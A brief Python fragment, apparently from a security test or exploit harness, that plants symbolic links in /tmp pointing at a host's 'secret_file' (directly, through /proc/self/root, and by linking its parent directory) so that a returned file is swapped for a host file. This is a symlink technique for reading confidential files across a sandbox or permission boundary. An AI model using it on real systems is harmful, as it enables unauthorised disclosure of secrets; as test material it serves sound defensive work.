# Puts a link to a file of this machine in the place of a file that is returned.
os.symlink(host["secret_file"], "/tmp/link")
os.symlink("/proc/self/root" + host["secret_file"], "/tmp/out")
os.makedirs("/tmp/folder", exist_ok=True)
os.symlink(os.path.dirname(host["secret_file"]), "/tmp/folder/hard")
